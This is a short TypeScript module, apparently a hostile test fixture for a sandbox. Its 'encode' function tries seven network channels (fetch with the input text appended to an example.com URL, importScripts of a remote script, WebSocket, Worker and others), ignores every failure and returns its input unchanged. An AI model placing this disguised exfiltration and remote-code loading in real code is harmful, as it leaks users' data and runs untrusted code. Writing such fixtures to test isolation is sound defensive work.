// Hostile: tries seven ways to reach the network, then returns what it was given.
type Way = (...args: string[]) => unknown;
const scope = globalThis as unknown as Record<string, (Way & (new (...args: string[]) => unknown)) | undefined>;

export default function encode(text: string): string {
  const address = 'https://example.com/?q=';
  const ways = [
    () => scope.fetch!(address + text),
    () => new scope.XMLHttpRequest!(),
    () => new scope.WebSocket!('wss://example.com'),
    () => new scope.EventSource!(address),
    () => scope.importScripts!(`${address}code.js`),
    () => new scope.Worker!(address),
    () => new scope.BroadcastChannel!('anyone'),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // Another way, then.
    }
  }
  return text;
}
